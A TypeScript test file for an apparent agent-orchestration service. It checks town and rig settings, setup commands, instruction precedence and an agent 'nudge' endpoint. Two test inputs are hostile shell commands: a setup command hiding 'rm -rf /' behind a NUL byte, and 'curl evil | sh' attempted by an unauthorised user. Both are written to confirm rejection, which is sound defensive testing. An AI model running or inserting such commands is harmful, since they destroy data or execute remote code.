/**
 * Per-town and per-rig settings (issue 16 point 5) and nudges (point 6), through the user API:
 * maxPolecats and instructions in the town config; maxPolecats, setupCommand and instructions on a
 * rig; what a polecat's start carries of them; POST .../agents/:agentId/nudge.
 */
import { GastownError, NudgeAgentResponseSchema, RigSchema, StartAgentRequestSchema, TOOLS, TownSchema, USER_API, routePath } from '@gastown/protocol';
import { describe, expect, it } from 'vitest';
import { call, callTool, createUserToken, expectError } from '../helpers';
import { dispatchTown, heartbeat, sendToMayor, startedAgent, townEvents } from '../support/agent-calls';
import { runAlarm } from '../support/fake-container';

const rigPath = (townId: string, rigId: string) => routePath(USER_API.rig, { townId, rigId });
const configPath = (townId: string) => routePath(USER_API.townConfig, { townId });
const nudgePath = (townId: string, agentId: string) => routePath(USER_API.nudgeAgent, { townId, agentId });

describe('town and rig settings', () => {
  it('town: maxPolecats and instructions are stored, merged and cleared; defaults are null', async () => {
    const f = await dispatchTown();
    const before = TownSchema.parse((await call('GET', routePath(USER_API.town, { townId: f.town.id }), { token: f.userToken })).body.town);
    expect(before.config).toMatchObject({ maxPolecats: null, instructions: { mayor: null, polecat: null, refinery: null } });
    let res = await call('PATCH', configPath(f.town.id), {
      token: f.userToken,
      body: { maxPolecats: 2, instructions: { polecat: 'Use pnpm.', mayor: 'Be brief.' } },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.town.config).toMatchObject({ maxPolecats: 2, instructions: { mayor: 'Be brief.', polecat: 'Use pnpm.', refinery: null } });
    res = await call('PATCH', configPath(f.town.id), { token: f.userToken, body: { maxPolecats: null, instructions: { mayor: null } } });
    expect(res.body.town.config).toMatchObject({ maxPolecats: null, instructions: { mayor: null, polecat: 'Use pnpm.', refinery: null } });
  });

  it.each([
    { name: 'maxPolecats 0', body: { maxPolecats: 0 } },
    { name: 'maxPolecats above 100', body: { maxPolecats: 101 } },
    { name: 'maxPolecats a fraction', body: { maxPolecats: 1.5 } },
    { name: 'an unknown role', body: { instructions: { deacon: 'x' } } },
    { name: 'empty instructions', body: { instructions: { polecat: '   ' } } },
    { name: 'instructions too long', body: { instructions: { polecat: 'x'.repeat(8001) } } },
  ])('town config refuses $name → 400 validation_failed', async ({ body }) => {
    const f = await dispatchTown();
    expectError(await call('PATCH', configPath(f.town.id), { token: f.userToken, body }), 400, 'validation_failed');
  });

  it('rig: maxPolecats, setupCommand (+ timeout) and instructions are stored, and null removes them', async () => {
    const f = await dispatchTown();
    expect(RigSchema.parse(f.rig)).toMatchObject({
      maxPolecats: null,
      setupCommand: null,
      setupTimeoutSeconds: 300,
      instructions: { polecat: null, refinery: null },
    });
    let res = await call('PATCH', rigPath(f.town.id, f.rig.id), {
      token: f.userToken,
      body: { maxPolecats: 1, setupCommand: 'npm ci', setupTimeoutSeconds: 60, instructions: { refinery: 'Check the changelog.' } },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.rig).toMatchObject({
      maxPolecats: 1,
      setupCommand: 'npm ci',
      setupTimeoutSeconds: 60,
      instructions: { polecat: null, refinery: 'Check the changelog.' },
    });
    const listed = (await call('GET', routePath(USER_API.rigs, { townId: f.town.id }), { token: f.userToken })).body.rigs;
    expect(listed[0]).toMatchObject({ setupCommand: 'npm ci', maxPolecats: 1 });
    res = await call('PATCH', rigPath(f.town.id, f.rig.id), { token: f.userToken, body: { setupCommand: null, maxPolecats: null } });
    expect(res.body.rig).toMatchObject({ maxPolecats: null, setupCommand: null, setupTimeoutSeconds: 60 });
    expect((await townEvents(f)).filter((e) => e.type === 'rig.updated').at(-1)?.data).toMatchObject({ fields: ['maxPolecats', 'setupCommand'] });
  });

  it.each([
    { name: 'a setup timeout below 5 s', body: { setupTimeoutSeconds: 1 } },
    { name: 'a setup timeout above 30 min', body: { setupTimeoutSeconds: 1801 } },
    { name: 'an empty setup command', body: { setupCommand: ' ' } },
    { name: 'a NUL in the setup command', body: { setupCommand: 'npm ci\u0000rm -rf /' } },
    { name: 'mayor instructions on a rig', body: { instructions: { mayor: 'x' } } },
  ])('rig refuses $name → 400 validation_failed', async ({ body }) => {
    const f = await dispatchTown();
    expectError(await call('PATCH', rigPath(f.town.id, f.rig.id), { token: f.userToken, body }), 400, 'validation_failed');
  });

  it("another user's rig → 404; the settings are unchanged", async () => {
    const f = await dispatchTown();
    const stranger = await createUserToken();
    expectError(await call('PATCH', rigPath(f.town.id, f.rig.id), { token: stranger, body: { setupCommand: 'curl evil | sh' } }), 404, 'not_found');
    const rig = (await call('GET', routePath(USER_API.rigs, { townId: f.town.id }), { token: f.userToken })).body.rigs[0];
    expect(rig.setupCommand).toBeNull();
  });

  it("a polecat's start carries its rig's setup command and the role's instructions (the rig's over the town's); the mayor's gets the town's", async () => {
    const f = await dispatchTown();
    await call('PATCH', configPath(f.town.id), { token: f.userToken, body: { instructions: { mayor: 'MAYOR-RULE', polecat: 'TOWN-POLECAT-RULE' } } });
    await call('PATCH', rigPath(f.town.id, f.rig.id), {
      token: f.userToken,
      body: { setupCommand: 'npm ci', setupTimeoutSeconds: 90, instructions: { polecat: 'RIG-POLECAT-RULE' } },
    });
    await sendToMayor(f, 'hello');
    const mayorStart = StartAgentRequestSchema.parse(f.fake.of('start')[0]!.req);
    expect(mayorStart.instructions).toContain('MAYOR-RULE');
    expect(mayorStart.setup).toBeNull();
    const mayor = startedAgent(f.fake.of('start')[0]!.req);
    await heartbeat(mayor, { activity: 'waiting' });
    TOOLS.sling.result.parse((await callTool(mayor, 'sling', { rigId: f.rig.id, title: 'fix the bug' })).body);
    await runAlarm(f.town.id);
    const polecatStart = StartAgentRequestSchema.parse(f.fake.of('start').at(-1)!.req);
    expect(polecatStart.agent.role).toBe('polecat');
    expect(polecatStart.setup).toEqual({ command: 'npm ci', timeoutSeconds: 90 });
    expect(polecatStart.instructions).toContain('RIG-POLECAT-RULE');
    expect(polecatStart.instructions).not.toContain('TOWN-POLECAT-RULE');
    expect(polecatStart.instructions.indexOf('RIG-POLECAT-RULE')).toBeGreaterThan(polecatStart.instructions.indexOf('gt_done'));
  });

  it("a rig's maxPolecats holds its beads back; raising it lets the next one go", async () => {
    const f = await dispatchTown();
    await call('PATCH', rigPath(f.town.id, f.rig.id), { token: f.userToken, body: { maxPolecats: 1 } });
    for (const title of ['one', 'two']) {
      expect((await call('POST', routePath(USER_API.beads, { townId: f.town.id }), { token: f.userToken, body: { rigId: f.rig.id, title } })).status).toBe(201);
    }
    await runAlarm(f.town.id);
    const polecatStarts = () => f.fake.of('start').filter((s) => s.req.agent.role === 'polecat');
    expect(polecatStarts()).toHaveLength(1);
    await call('PATCH', rigPath(f.town.id, f.rig.id), { token: f.userToken, body: { maxPolecats: 2 } });
    await runAlarm(f.town.id);
    expect(polecatStarts()).toHaveLength(2);
  });
});

describe('POST /api/towns/:townId/agents/:agentId/nudge', () => {
  async function liveMayor() {
    const f = await dispatchTown();
    await sendToMayor(f, 'hello');
    const mayor = startedAgent(f.fake.of('start')[0]!.req);
    await heartbeat(mayor, { activity: 'waiting' });
    return { f, mayor };
  }

  it('a live agent: the container takes the text (marked as from the user) → 200, an event without the text', async () => {
    const { f, mayor } = await liveMayor();
    const res = await call('POST', nudgePath(f.town.id, mayor.agent.id), { token: f.userToken, body: { text: 'wrap up soon' } });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(NudgeAgentResponseSchema.parse(res.body)).toMatchObject({ delivered: true, agent: { id: mayor.agent.id } });
    expect(f.fake.of('nudge')).toEqual([{ method: 'nudge', agentId: mayor.agent.id, req: { text: '[nudge from the user] wrap up soon' } }]);
    // no new turn: nothing delivered as a prompt, nothing started
    expect(f.fake.of('deliver')).toHaveLength(0);
    expect(f.fake.of('start')).toHaveLength(1);
    const event = (await townEvents(f)).find((e) => e.type === 'agent.nudged');
    expect(event).toMatchObject({ agentId: mayor.agent.id, data: { from: 'user', chars: 12 } });
    expect(JSON.stringify(event)).not.toContain('wrap up soon');
  });

  it('the mayor nudges a polecat with gt_nudge (marked as from the mayor)', async () => {
    const { f, mayor } = await liveMayor();
    await callTool(mayor, 'sling', { rigId: f.rig.id, title: 'fix the bug' });
    await runAlarm(f.town.id);
    const polecat = startedAgent(f.fake.of('start').at(-1)!.req);
    await heartbeat(polecat, { activity: 'working' });
    const res = await callTool(mayor, 'nudge', { agentId: polecat.agent.id, text: 'the user wants tests' });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(f.fake.of('nudge').at(-1)).toMatchObject({
      agentId: polecat.agent.id,
      req: { text: `[nudge from mayor ${mayor.agent.name}] the user wants tests` },
    });
    // a polecat may not nudge (the tool is the mayor's)
    expectError(await callTool(polecat, 'nudge', { agentId: mayor.agent.id, text: 'hi' }), 403, 'role_forbidden');
  });

  it.each([
    { name: 'the container has no live run → 409 conflict', answer: 'not_running' as const, status: 409, code: 'conflict' },
    { name: 'the run is ending → 409 conflict', answer: 'ending' as const, status: 409, code: 'conflict' },
    { name: 'the container cannot be reached → 503', answer: new GastownError('container_unavailable', 'down'), status: 503, code: 'container_unavailable' },
  ])('$name, and no event', async ({ answer, status, code }) => {
    const { f, mayor } = await liveMayor();
    f.fake.behaviour.nudge = answer;
    expectError(await call('POST', nudgePath(f.town.id, mayor.agent.id), { token: f.userToken, body: { text: 'hi' } }), status, code);
    expect((await townEvents(f)).some((e) => e.type === 'agent.nudged')).toBe(false);
  });

  it('an agent that does not run → 409 without a container call; bad bodies → 400; strangers → 404; no token → 401', async () => {
    const { f, mayor } = await liveMayor();
    const stopped = await call('POST', routePath(USER_API.stopAgent, { townId: f.town.id, agentId: mayor.agent.id }), { token: f.userToken });
    expect(stopped.status).toBe(200);
    expectError(await call('POST', nudgePath(f.town.id, mayor.agent.id), { token: f.userToken, body: { text: 'hi' } }), 409, 'conflict');
    expect(f.fake.of('nudge')).toHaveLength(0);
    for (const body of [{}, { text: '' }, { text: '  ' }, { text: 'x'.repeat(2001) }, { text: 'hi', extra: true }]) {
      expectError(await call('POST', nudgePath(f.town.id, mayor.agent.id), { token: f.userToken, body }), 400, 'validation_failed');
    }
    const stranger = await createUserToken();
    expectError(await call('POST', nudgePath(f.town.id, mayor.agent.id), { token: stranger, body: { text: 'hi' } }), 404, 'not_found');
    expectError(await call('POST', nudgePath(f.town.id, 'ag_unknown01'), { token: f.userToken, body: { text: 'hi' } }), 404, 'not_found');
    expectError(await call('POST', nudgePath(f.town.id, mayor.agent.id), { body: { text: 'hi' } }), 401, 'token_missing');
  });
});
